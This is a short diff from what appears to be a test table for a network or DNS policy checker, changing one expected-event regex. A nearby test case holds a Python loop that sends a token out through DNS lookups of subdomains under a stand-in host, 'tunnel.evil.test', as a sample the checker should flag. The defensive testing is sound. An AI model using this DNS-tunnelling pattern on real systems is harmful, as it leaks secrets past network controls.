@@ -91,7 +91,7 @@ for i in range(20):
     except OSError:
         continue
     if a:
-        return 'answered'`, event: `(lookup|limit) .*yyyy.*(too long|say more)`, shut: "they are too long for every policy"},
+        return 'answered'`, event: `(lookup|limit) .*yyyy.*(too long|too much data)`, shut: "they are too long for every policy"},
 	{name: "tunnel: names of a host that nobody named", code: `
 for i in range(30):
     ask(token + str(i) + '.tunnel.evil.test')`, event: `lookup .*tunnel.evil.test .*no rule`},
